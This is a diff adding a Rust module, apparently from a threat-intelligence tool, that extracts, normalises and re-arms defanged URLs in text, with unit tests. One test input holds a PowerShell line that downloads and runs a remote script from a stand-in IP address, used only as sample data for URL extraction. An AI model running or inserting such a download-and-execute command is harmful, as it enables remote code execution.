@@ -1,0 +1,395 @@
+//! Absolute URLs: where they stand in text, and each in one form.
+
+use std::borrow::Cow;
+use std::net::{IpAddr, Ipv4Addr};
+
+use crate::{address, domain};
+
+/// Schemes that lead to another machine, with the ports that go without saying. `hxxp` is how analysts disarm `http`.
+const SCHEMES: [(&str, &str, u16); 16] = [
+    ("http", "http", 80),
+    ("https", "https", 443),
+    ("hxxp", "http", 80),
+    ("hxxps", "https", 443),
+    ("ftp", "ftp", 21),
+    ("ftps", "ftps", 990),
+    ("sftp", "sftp", 22),
+    ("tftp", "tftp", 69),
+    ("ws", "ws", 80),
+    ("wss", "wss", 443),
+    ("smb", "smb", 445),
+    ("ldap", "ldap", 389),
+    ("ldaps", "ldaps", 636),
+    ("rmi", "rmi", 1099),
+    ("iiop", "iiop", 535),
+    ("dns", "dns", 53),
+];
+
+/// An absolute URL in one form.
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub(crate) struct Url {
+    /// Lower-case scheme and host, no port that goes without saying, escapes only where they are needed.
+    pub(crate) text: String,
+    /// Where it leads.
+    pub(crate) host: Host,
+}
+
+/// The host of a URL.
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub(crate) enum Host {
+    /// An address, however it was written.
+    Ip(IpAddr),
+    /// A name in the form of [`domain::public`].
+    Name(String),
+}
+
+impl Url {
+    /// Reads a URL; `None` if it leads nowhere, or to a name that is no domain of the internet.
+    pub(crate) fn read(url: &str) -> Option<Self> {
+        let (scheme, rest) = url.split_once("://")?;
+        let (_, scheme, port_of_scheme) = SCHEMES.iter().find(|(name, ..)| name.eq_ignore_ascii_case(scheme))?;
+        let (authority, tail) = rest.split_at(rest.find(['/', '?', '#']).unwrap_or(rest.len()));
+        let (user, place) = authority
+            .rsplit_once('@')
+            .map_or((None, authority), |(user, place)| (Some(user), place));
+        let (name, port) = match place.strip_prefix('[') {
+            Some(bracketed) => {
+                let (ip, after) = bracketed.split_once(']')?;
+                (ip, after.strip_prefix(':').unwrap_or(""))
+            }
+            None => place.split_once(':').unwrap_or((place, "")),
+        };
+        let port = if port.is_empty() {
+            None
+        } else {
+            Some(port.parse::<u16>().ok()?)
+        };
+        let port = port.filter(|port| port != port_of_scheme);
+        let host = Host::read(&decoded(name))?;
+
+        let mut text = format!("{scheme}://");
+        if let Some(user) = user {
+            text.push_str(user);
+            text.push('@');
+        }
+        match &host {
+            Host::Ip(IpAddr::V6(ip)) => text.extend(["[", &ip.to_string(), "]"]),
+            Host::Ip(ip) => text.push_str(&ip.to_string()),
+            Host::Name(name) => text.push_str(name),
+        }
+        if let Some(port) = port {
+            text.extend([":", &port.to_string()]);
+        }
+        if !tail.starts_with('/') {
+            text.push('/');
+        }
+        escaped_once(tail, &mut text);
+        Some(Self { text, host })
+    }
+}
+
+impl Host {
+    fn read(name: &str) -> Option<Self> {
+        if let Some((ip, None)) = address::parse(name) {
+            return Some(Self::Ip(ip));
+        }
+        let number = name.strip_suffix('.').unwrap_or(name);
+        if let Some(ip) = as_browsers_count(number) {
+            return Some(Self::Ip(ip.into()));
+        }
+        domain::public(name).map(Self::Name)
+    }
+}
+
+/// Reads the other ways to write an IPv4 address that browsers and `curl` follow: `3405803786`, `0xcb.0x0.0x71.0xa`, `0313.0.113.10`.
+fn as_browsers_count(name: &str) -> Option<Ipv4Addr> {
+    let part = |part: &str| {
+        let (digits, radix) = match part.strip_prefix("0x").or_else(|| part.strip_prefix("0X")) {
+            Some(digits) => (digits, 16),
+            None if part.len() > 1 && part.starts_with('0') => (part, 8),
+            None => (part, 10),
+        };
+        let sound = !digits.is_empty() && digits.len() <= 12 && digits.bytes().all(|byte| byte.is_ascii_alphanumeric());
+        sound.then(|| u64::from_str_radix(digits, radix).ok()).flatten()
+    };
+    if name.len() > 50 {
+        return None;
+    }
+    let parts: Vec<u64> = name.split('.').map(part).collect::<Option<_>>()?;
+    let (last, firsts) = parts.split_last()?;
+    if firsts.len() > 3 || firsts.iter().any(|part| *part > 255) {
+        return None;
+    }
+    let room = 32 - 8 * u32::try_from(firsts.len()).ok()?;
+    if *last >= 1 << room {
+        return None;
+    }
+    let high = firsts
+        .iter()
+        .zip([24, 16, 8])
+        .map(|(part, shift)| part << shift)
+        .sum::<u64>();
+    u32::try_from(high + last).ok().map(Ipv4Addr::from)
+}
+
+/// Finds absolute URLs in text.
+pub(crate) fn all(text: &str) -> impl Iterator<Item = &str> {
+    let mut rest = text;
+    std::iter::from_fn(move || {
+        loop {
+            let at = rest.find("://")?;
+            let (before, after) = rest.split_at(at);
+            let scheme = before.bytes().rev().take_while(u8::is_ascii_alphabetic).count();
+            let start = at - scheme;
+            let length = after.find(ends).unwrap_or(after.len());
+            let url = &rest[start..at + length];
+            rest = &rest[at + length.max(3).min(after.len())..];
+            let url = url.trim_end_matches(['.', ',', ';', ':', '!', '?', '\'']);
+            let url = if url.contains('(') {
+                url
+            } else {
+                url.trim_end_matches(')')
+            };
+            let scheme = &url[..scheme.min(url.len())];
+            if SCHEMES.iter().any(|(name, ..)| name.eq_ignore_ascii_case(scheme)) {
+                return Some(url);
+            }
+        }
+    })
+}
+
+/// Finds absolute URLs that were escaped to stand inside of something else, once or twice: `http%3A%2F%2F…`, `http%253A…`.
+pub(crate) fn escaped(text: &str) -> Vec<String> {
+    const MARKS: [&str; 4] = ["%3a%2f%2f", "%253a%252f%252f", "%3a//", ":%2f%2f"];
+    let mut found = Vec::new();
+    if !text.contains('%') {
+        return found;
+    }
+    let bytes = text.as_bytes();
+    let mut done = 0;
+    let mut at = 0;
+    while at < bytes.len() {
+        let here = matches!(bytes[at], b'%' | b':') && MARKS.iter().any(|mark| starts(&bytes[at..], mark));
+        if !here {
+            at += 1;
+            continue;
+        }
+        let scheme = bytes[done..at]
+            .iter()
+            .rev()
+            .take_while(|byte| byte.is_ascii_alphabetic())
+            .count();
+        let end = text[at..]
+            .find(|c| ends(c) || c == '&')
+            .map_or(text.len(), |length| at + length);
+        let once = decoded(&text[at - scheme..end]);
+        let plain = if once.contains("://") {
+            once
+        } else {
+            Cow::Owned(decoded(&once).into_owned())
+        };
+        found.extend(all(&plain).next().map(str::to_owned));
+        done = end;
+        at = end;
+    }
+    found
+}
+
+fn starts(bytes: &[u8], mark: &str) -> bool {
+    bytes
+        .get(..mark.len())
+        .is_some_and(|head| head.eq_ignore_ascii_case(mark.as_bytes()))
+}
+
+fn ends(c: char) -> bool {
+    c.is_whitespace() || c.is_control() || matches!(c, '"' | '\'' | '`' | '<' | '>' | '{' | '}' | '|' | '\\' | '^')
+}
+
+/// Takes off one layer of `%XX`. What is no escape stays, and bytes that are no UTF-8 become U+FFFD.
+pub(crate) fn decoded(text: &str) -> Cow<'_, str> {
+    if !text.contains('%') {
+        return Cow::Borrowed(text);
+    }
+    let mut bytes = Vec::with_capacity(text.len());
+    let mut rest = text.as_bytes();
+    while let [first, after @ ..] = rest {
+        if let Some(byte) = escape(rest) {
+            bytes.push(byte);
+            rest = &rest[3..];
+        } else {
+            bytes.push(*first);
+            rest = after;
+        }
+    }
+    Cow::Owned(String::from_utf8_lossy(&bytes).into_owned())
+}
+
+/// Writes a path and a query with escapes only where they are needed, in capital letters.
+fn escaped_once(tail: &str, out: &mut String) {
+    let mut rest = tail;
+    while let Some(at) = rest.find('%') {
+        out.push_str(&rest[..at]);
+        rest = &rest[at..];
+        let Some(byte) = escape(rest.as_bytes()) else {
+            out.push('%');
+            rest = &rest[1..];
+            continue;
+        };
+        if byte.is_ascii_alphanumeric() || b"-._~".contains(&byte) {
+            out.push(byte.into());
+        } else {
+            out.push_str(&rest[..3].to_ascii_uppercase());
+        }
+        rest = &rest[3..];
+    }
+    out.push_str(rest);
+}
+
+/// The byte that `%XX` at the start stands for.
+fn escape(text: &[u8]) -> Option<u8> {
+    let digit = |byte: u8| char::from(byte).to_digit(16).and_then(|digit| u8::try_from(digit).ok());
+    match text {
+        [b'%', high, low, ..] => Some(digit(*high)? << 4 | digit(*low)?),
+        _ => None,
+    }
+}
+
+/// Arms again what was disarmed for people: `203[.]0[.]113[.]9`, `evil(dot)example`, `hxxp[:]//`.
+pub(crate) fn armed(text: &str) -> Cow<'_, str> {
+    const DISARMED: [(&str, &str); 12] = [
+        ("[.]", "."),
+        ("(.)", "."),
+        ("{.}", "."),
+        ("[dot]", "."),
+        ("(dot)", "."),
+        ("{dot}", "."),
+        ("[:]", ":"),
+        ("(:)", ":"),
+        ("[://]", "://"),
+        ("[@]", "@"),
+        ("[at]", "@"),
+        ("(at)", "@"),
+    ];
+    let mut out = String::new();
+    let mut rest = text;
+    let mut from = 0;
+    while let Some(at) = rest[from..].find(['[', '(', '{']).map(|at| from + at) {
+        let here = DISARMED.iter().find(|(form, _)| starts(&rest.as_bytes()[at..], form));
+        let Some((form, plain)) = here else {
+            from = at + 1;
+            continue;
+        };
+        out.push_str(&rest[..at]);
+        out.push_str(plain);
+        rest = &rest[at + form.len()..];
+        from = 0;
+    }
+    if out.is_empty() && rest.len() == text.len() {
+        return Cow::Borrowed(text);
+    }
+    out.push_str(rest);
+    Cow::Owned(out)
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn urls_end_where_people_say_they_end() {
+        let text = "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.66/a.ps1'); see https://x.example/a(b)?q=1, ftp://y.example. \
+                    file://z http:// ://";
+        let found: Vec<_> = all(text).collect();
+        assert_eq!(
+            found,
+            [
+                "http://203.0.113.66/a.ps1",
+                "https://x.example/a(b)?q=1",
+                "ftp://y.example",
+                "http://"
+            ]
+        );
+    }
+
+    #[test]
+    fn one_url_has_one_form_however_it_is_written() {
+        for (form, spellings) in [
+            (
+                "http://evil.example/a",
+                &[
+                    "http://evil.example/a",
+                    "HTTP://Evil.Example/a",
+                    "hxxp://evil.example/a",
+                    "http://evil.example:80/a",
+                    "http://evil.example:/a",
+                    "http://evil.example./a",
+                    "http://%65vil.example/%61",
+                ][..],
+            ),
+            (
+                "https://evil.example/",
+                &["https://evil.example", "https://EVIL.example:443/"],
+            ),
+            ("https://evil.example/?a=1", &["https://evil.example?a=1"]),
+            ("http://evil.example:443/", &["http://evil.example:443"]),
+            ("http://evil.example/%2F%3A", &["http://evil.example/%2f%3a"]),
+            (
+                "http://203.0.113.10/x",
+                &[
+                    "http://203.0.113.10/x",
+                    "http://3405803786/x",
+                    "http://0xCB00710A/x",
+                    "http://0313.0.0161.012/x",
+                    "http://203.28938/x",
+                    "http://[::ffff:203.0.113.10]/x",
+                ],
+            ),
+            (
+                "http://[2001:db8::1]:8080/x",
+                &["http://[2001:db8:0:0:0:0:0:1]:8080/x", "http://[2001:DB8::0001]:8080/x"],
+            ),
+            ("http://u:p@evil.example/", &["http://u:p@evil.example"]),
+            (
+                "http://xn--bcher-kva.example/",
+                &["http://b\u{fc}cher.example/", "http://xn--bcher-kva.example"],
+            ),
+        ] {
+            for spelling in spellings {
+                assert_eq!(
+                    Url::read(spelling).map(|url| url.text).as_deref(),
+                    Some(form),
+                    "{spelling}"
+                );
+            }
+            assert_eq!(Url::read(form).unwrap().text, form, "one form is its own form");
+        }
+        for none in [
+            "http://",
+            "http:///x",
+            "http://host/x",
+            "http://a.pdf/x",
+            "http://evil.example:port/",
+            "file://evil.example/x",
+            "http://[::1",
+        ] {
+            assert_eq!(Url::read(none), None, "{none}");
+        }
+    }
+
+    #[test]
+    fn urls_inside_of_urls_are_found() {
+        assert_eq!(
+            escaped(
+                "/?u=http%3A%2F%2Fevil.example%2Fa%20b&v=HTTPS%253a%252F%252Fx.example%252F&w=ftp:%2f%2fy.example 100% %3A%2F%2F"
+            ),
+            ["http://evil.example/a", "HTTPS://x.example/", "ftp://y.example"]
+        );
+    }
+
+    #[test]
+    fn what_was_disarmed_is_armed_again() {
+        assert_eq!(armed("hxxp[:]//evil[.]example/x"), "hxxp://evil.example/x");
+        assert_eq!(armed("203[.]0(.)113{.}9 a[AT]b[dot]example"), "203.0.113.9 a@b.example");
+        assert!(matches!(armed("f(x) [a] {b}"), Cow::Borrowed("f(x) [a] {b}")));
+    }
+}
